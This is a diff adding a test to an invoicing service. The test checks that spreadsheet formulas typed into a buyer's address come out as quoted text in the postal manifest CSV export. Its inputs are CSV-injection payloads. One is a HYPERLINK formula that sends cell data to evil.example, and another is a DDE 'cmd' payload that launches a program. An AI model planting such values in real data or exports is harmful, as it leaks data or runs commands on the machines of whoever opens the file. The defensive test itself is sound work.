@@ -169,3 +169,28 @@ async def test_void_before_dispatch_cancels_the_order_and_leaves_the_manifest(
     assert after == "cancelled"
     refused = await issuer_client.post(f"/v1/invoices/{kept['id']}/void", json={"reason": "太晚了"})
     assert refused.status_code == 409
+
+
+async def test_a_formula_typed_by_a_buyer_comes_out_as_text_in_the_manifest_csv(
+    issuer_client: Any, operator_factory: Any, pool: asyncpg.Pool
+) -> None:
+    """The attack: a recipient `=HYPERLINK(...)` on a postal invoice ran as a live link in the operator's
+    spreadsheet. Read back, every typed cell that starts a formula is quoted text behind a single quote, and the
+    streamed export (PostgreSQL's COPY) writes exactly what the pure mapping does."""
+    province = "33"  # 浙江省: a province no other test of this module uses
+    operator = await operator_factory([province])
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    typed = {"recipient": formula, "line1": "@SUM(1+1)", "city": "+cmd|' /C calc'!A0", "postal_code": "-1+1"}
+    [invoice] = await issue_and_fulfil(issuer_client, pool, province, 1, **typed)
+    [manifest] = (await operator.get("/v1/postal/manifests", params={"status": "open"})).json()["items"]
+    answer = await operator.get(f"/v1/postal/manifests/{manifest['id']}", params={"format": "csv"})
+    text = answer.content.decode("utf-8")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["recipient"] == "'" + formula and row["address_line1"] == "'@SUM(1+1)"
+    assert row["city"] == "'+cmd|' /C calc'!A0" and row["postal_code"] == "'-1+1"
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in text  # quoted, quotes doubled
+    assert row["phone"] == "+8613800138000"
+    as_json = (await operator.get(f"/v1/postal/manifests/{manifest['id']}")).json()
+    assert as_json["items"][0]["recipient"] == formula  # JSON is data: it carries the text as typed
+    assert text == csv_header() + "".join(csv_rows(as_json["items"]))
+    assert invoice["buyer"]["address"]["recipient"] == formula
